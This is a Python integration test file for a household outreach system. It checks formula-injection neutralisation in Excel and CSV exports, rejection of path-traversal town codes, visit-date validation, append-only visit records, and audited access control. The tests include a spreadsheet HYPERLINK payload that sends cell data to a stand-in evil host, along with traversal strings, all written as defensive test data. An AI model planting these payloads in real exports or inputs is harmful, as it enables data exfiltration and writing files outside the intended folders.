"""Issue 12: exports that cannot carry a formula or escape their folder, visit records kept as
history within possible dates, and only configured, active users acting, every refusal audited."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from lowinc.errors import AccessDenied, NotFound, UserError
from outreach.audit import read_audit
from outreach.config import UserConfig
from outreach.db import transaction
from outreach.export import HEADERS, export_town_list
from outreach.jurisdiction import authorize_household, covers, sync_users
from outreach.outcomes import record_visit, visit_history, visit_outcomes
from outreach.queue import queue_alerts
from outreach.schema import Alert, User
from outreach.status import requeue_dead
from tests.outreach.conftest import NOW
from tests.outreach.factory import TOWN_A, TOWN_B, VILLAGE_A1, VILLAGE_B1, heads, household_key, visit_list

pytestmark = pytest.mark.integration
JUNE = dt.date(2024, 6, 1)
LATER = NOW + dt.timedelta(days=10)
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
only_sqlite = pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)


def _alert_ids(engine) -> dict[str, int]:
    with Session(engine) as session:
        return dict(session.execute(select(Alert.household_key, Alert.id)).all())


def _actions(engine) -> list[str]:
    return read_audit(engine)["action"].tolist()


# --- point 8: formula injection -------------------------------------------------------------


@only_sqlite
@pytest.mark.parametrize("lead", TRIGGERS)
def test_a_name_that_looks_like_a_formula_is_text_in_the_workbook_and_neutralised_in_the_csv(
    engine, config, tmp_path, lead
):
    queue_alerts(engine, visit_list({0: "red", 1: "orange"}), "run-1", NOW, config=config)
    people = heads([0, 1])
    hostile = f'{lead}HYPERLINK("http://evil.example/?"&A1,"点击")'
    people.loc[0, "head_name"] = hostile
    result = export_town_list(
        engine, tmp_path, town_code=TOWN_A, as_of=JUNE, user_name="李强", now=NOW, heads=people
    )
    workbook = load_workbook(result.xlsx)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # nothing is a formula
    names = [c.value for c in cells if c.column == HEADERS.index("户主姓名") + 1 and c.row > 1]
    assert names == [hostile.replace("\r", "\n"), "张1"]  # the text itself (XML reads CR as LF)
    with Path(result.csv).open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["户主姓名"] == "'" + hostile  # OWASP: a leading quote, the cell quoted
    assert rows[1]["户主姓名"] == "张1"
    assert not any(v.startswith(tuple(TRIGGERS)) for row in rows for v in row.values())
    assert Path(result.csv).read_text(encoding="utf-8-sig").startswith('"排名"')  # every field quoted


# --- point 9: division codes ------------------------------------------------------------------

BAD_TOWNS = [
    "330502001/../../../../../x",  # passed the old prefix check
    "330502001/../../x",
    "33050200",  # a digit short
    "３３０５０２００１",  # full-width digits
    "330502001 ",
    " 330502001",
    "-33050200",
    "330502999",  # digits of a town, but no such town
    VILLAGE_A1,  # a village is not a town
    "330502",
    "",
]


@only_sqlite
def test_a_town_code_must_be_a_known_town_before_it_is_compared_or_becomes_a_path(engine, config, tmp_path):
    queue_alerts(engine, visit_list({0: "red"}), "run-1", NOW, config=config)
    home = tmp_path / "home"
    for town in BAD_TOWNS:
        with pytest.raises(UserError):
            export_town_list(engine, home, town_code=town, as_of=JUNE, user_name="赵敏", now=NOW)
    assert [p.name for p in tmp_path.rglob("*.xlsx")] == []  # nothing written, inside or out
    assert _actions(engine).count("export_denied") == len(BAD_TOWNS)
    good = export_town_list(engine, home, town_code=TOWN_A, as_of=JUNE, user_name="赵敏", now=NOW)
    assert Path(good.xlsx).parent == home / "outreach" / "exports" / "2024-06"
    assert Path(good.xlsx).name.startswith(f"{TOWN_A}_2024-06_u")  # built from codes and an id only


def test_covers_compares_validated_codes_not_raw_prefixes():
    assert covers("county", "330502", VILLAGE_B1)
    assert not covers("town", TOWN_A, VILLAGE_B1)
    for area in ["330502001/../x", "33050200100５", "3305020010051"]:
        with pytest.raises(UserError):
            covers("county", "330502", area)


def test_a_configured_user_with_a_bad_code_stops_the_start_up(tmp_path):
    from outreach.db import upgrade

    engine = upgrade(f"sqlite:///{tmp_path / 'o.db'}")
    for code in ["330502001/..", "330502999", "３３０５０２００１"]:
        worker = UserConfig(name="某人", role="town_officer", level="town", code=code)
        with pytest.raises(UserError, match="某人"), transaction(engine) as session:
            sync_users(session, [worker])
    engine.dispose()


# --- point 10: visit records ------------------------------------------------------------------


def test_a_visit_date_is_between_the_alerts_month_and_today_and_refusals_are_audited(engine, config):
    queue_alerts(engine, visit_list({0: "red"}), "run-1", NOW, config=config)
    alert = _alert_ids(engine)[household_key(0)]
    for day in [dt.date(2099, 1, 1), dt.date(1990, 1, 1), dt.date(2024, 5, 31), dt.date(2024, 6, 14)]:
        with pytest.raises(UserError, match="visit date"):
            record_visit(
                engine, alert_id=alert, user_name="王芳", visited_on=day, hardship_confirmed=True, now=LATER
            )
    assert _actions(engine).count("record_visit_denied") == 4
    assert visit_outcomes(engine).empty
    # the first and last days are fine; "today" is Zhejiang's (UTC 2024-06-12 20:00 is the 13th there)
    evening = dt.datetime(2024, 6, 12, 20, 0)
    for day in [JUNE, dt.date(2024, 6, 13)]:
        record_visit(
            engine,
            alert_id=alert,
            user_name="王芳",
            visited_on=day,
            hardship_confirmed=True,
            now=evening,
            correction=day != JUNE,
        )


def test_a_second_record_is_refused_unless_a_correction_which_supersedes_and_keeps_history(engine, config):
    queue_alerts(engine, visit_list({0: "red", 1: "orange"}), "run-1", NOW, config=config)
    ids = _alert_ids(engine)
    alert = ids[household_key(0)]
    first = record_visit(
        engine,
        alert_id=alert,
        user_name="王芳",
        visited_on=dt.date(2024, 6, 5),
        hardship_confirmed=True,
        now=LATER,
    )
    with pytest.raises(UserError, match="already has a recorded visit"):
        record_visit(
            engine,
            alert_id=alert,
            user_name="李强",
            visited_on=dt.date(2024, 6, 6),
            hardship_confirmed=False,
            now=LATER,
        )
    with pytest.raises(UserError, match="no recorded visit to correct"):
        record_visit(
            engine,
            alert_id=ids[household_key(1)],
            user_name="王芳",
            visited_on=dt.date(2024, 6, 6),
            hardship_confirmed=False,
            now=LATER,
            correction=True,
        )
    second = record_visit(
        engine,
        alert_id=alert,
        user_name="李强",
        visited_on=dt.date(2024, 6, 6),
        hardship_confirmed=False,
        now=LATER,
        correction=True,
    )
    assert second.supersedes == first.outcome and second.task == first.task
    history = visit_history(engine, alert)
    assert history["id"].tolist() == [first.outcome, second.outcome]
    assert history["hardship_confirmed"].tolist() == [True, False]  # the first record is unchanged
    assert history["recorded_by"].tolist() == ["王芳", "李强"]
    labels = visit_outcomes(engine)
    assert labels[["household_key", "visit_date", "hardship_confirmed"]].to_dict("records") == [
        {
            "household_key": household_key(0),
            "visit_date": pd.Timestamp("2024-06-06"),
            "hardship_confirmed": False,
        }
    ]
    actions = _actions(engine)
    assert actions.count("record_visit_denied") == 2
    assert actions.count("record_visit") == 1 and actions.count("correct_visit") == 1


def test_an_unknown_alert_another_area_and_an_inactive_user_are_refused_and_audited(engine, config):
    queue_alerts(engine, visit_list({0: "red", 20: "red"}), "run-1", NOW, config=config)
    ids = _alert_ids(engine)
    with transaction(engine) as session:  # 李强 leaves: his entry is disabled in the configuration
        users = [u.model_copy(update={"active": u.name != "李强"}) for u in config.users]
        sync_users(session, users)
    attempts = [
        (999_999, "王芳", NotFound),  # no such alert
        (ids[household_key(20)], "王芳", NotFound),  # town B, not hers: the same answer
        (ids[household_key(0)], "李强", AccessDenied),  # disabled
        (ids[household_key(0)], "nobody_at_all", AccessDenied),  # never configured
        (ids[household_key(0)], "数据组", AccessDenied),  # no area
    ]
    messages = []
    for alert, name, error in attempts:
        with pytest.raises(error) as raised:
            record_visit(
                engine,
                alert_id=alert,
                user_name=name,
                visited_on=dt.date(2024, 6, 5),
                hardship_confirmed=True,
                now=LATER,
            )
        messages.append(str(raised.value))
    assert messages[0].replace("999999", "X") == messages[1].replace(str(ids[household_key(20)]), "X")
    audit = read_audit(engine)
    denied = audit[audit["action"] == "record_visit_denied"]
    assert denied["actor"].tolist() == [name for _a, name, _e in attempts]
    assert visit_outcomes(engine).empty


# --- point 11: explain ------------------------------------------------------------------------


def test_explaining_a_household_needs_an_active_user_of_its_area_and_is_audited(engine):
    key = household_key(0)
    assert authorize_household(engine, user_name="王芳", household_key=key, village_code=VILLAGE_A1, now=NOW)
    refusals = [
        ("王芳", VILLAGE_B1, NotFound),  # outside her village
        ("王芳", None, NotFound),  # not in the snapshot
        ("李强", VILLAGE_B1, NotFound),
        ("数据组", VILLAGE_A1, AccessDenied),
        ("nobody_at_all", VILLAGE_A1, AccessDenied),
    ]
    messages = []
    for name, village, error in refusals:
        with pytest.raises(error) as raised:
            authorize_household(engine, user_name=name, household_key=key, village_code=village, now=NOW)
        messages.append(str(raised.value))
        assert key not in str(raised.value)
    assert messages[0] == messages[1]  # outside the area looks exactly like an unknown key
    audit = read_audit(engine)
    assert audit[["actor", "action", "target"]].iloc[0].tolist() == ["王芳", "explain", f"household:{key}"]
    assert audit["action"].tolist()[1:] == ["explain_denied"] * len(refusals)
    assert audit["actor"].tolist()[1:] == [name for name, _v, _e in refusals]


# --- point 12: acting users -------------------------------------------------------------------


def test_only_an_active_data_team_member_requeues_and_the_actor_is_always_audited(engine, config):
    for name in ["nobody_at_all", "王芳", "李强"]:
        with pytest.raises(AccessDenied):
            requeue_dead(engine, None, NOW, actor=name)
    assert requeue_dead(engine, None, NOW, actor="数据组") == 0
    with transaction(engine) as session:
        sync_users(session, [u.model_copy(update={"active": u.role != "data_team"}) for u in config.users])
    with pytest.raises(AccessDenied):
        requeue_dead(engine, None, NOW, actor="数据组")
    audit = read_audit(engine)
    assert audit[["actor", "action"]].values.tolist() == [
        ["nobody_at_all", "requeue_denied"],
        ["王芳", "requeue_denied"],
        ["李强", "requeue_denied"],
        ["数据组", "requeue_dead"],
        ["数据组", "requeue_denied"],
    ]


def test_users_carry_the_columns_the_sign_in_page_will_need(engine):
    with Session(engine) as session:
        user = session.execute(select(User).where(User.name == "王芳")).scalar_one()
    assert user.active and user.role == "village_worker" and user.code == VILLAGE_A1
    assert user.password_hash is None and user.failed_logins == 0 and user.locked_until is None
    assert user.password_changed_at is None and user.created_at is not None


def test_an_export_by_a_user_of_another_town_is_refused(engine, config, tmp_path):
    queue_alerts(engine, visit_list({0: "red"}), "run-1", NOW, config=config)
    with pytest.raises(AccessDenied):
        export_town_list(engine, tmp_path, town_code=TOWN_B, as_of=JUNE, user_name="李强", now=NOW)
    with pytest.raises(AccessDenied):
        export_town_list(engine, tmp_path, town_code=TOWN_A, as_of=JUNE, user_name="nobody_at_all", now=NOW)
    audit = read_audit(engine)
    assert audit.loc[audit["action"] == "export_denied", "actor"].tolist() == ["李强", "nobody_at_all"]


@only_sqlite
def test_a_visit_record_cannot_be_changed_or_deleted_through_the_orm(engine, config):
    from outreach.schema import VisitOutcome

    queue_alerts(engine, visit_list({0: "red"}), "run-1", NOW, config=config)
    alert = _alert_ids(engine)[household_key(0)]
    first = record_visit(
        engine, alert_id=alert, user_name="王芳", visited_on=JUNE, hardship_confirmed=True, now=LATER
    )
    with pytest.raises(PermissionError, match="append-only"), transaction(engine) as session:
        session.get(VisitOutcome, first.outcome).hardship_confirmed = False
    with pytest.raises(PermissionError, match="append-only"), transaction(engine) as session:
        session.delete(session.get(VisitOutcome, first.outcome))
    assert visit_outcomes(engine)["hardship_confirmed"].tolist() == [True]


def test_a_visit_list_with_codes_that_are_not_known_divisions_is_refused():
    from outreach.queue import validate_visit_list

    for change in [
        {"village_code": "330502001/../x"},
        {"village_code": "330502001999"},
        {"village_code": "３３０５０２００１００５"},
        {"town_code": TOWN_B},  # the village is in town A
        {"county_code": "330503"},
    ]:
        frame = visit_list({0: "red", 1: "red"})
        column, value = next(iter(change.items()))
        frame.loc[1, column] = value
        with pytest.raises(UserError, match="1 visit-list rows"):
            validate_visit_list(frame)
    assert len(validate_visit_list(visit_list({0: "red", 20: "red"}))) == 2
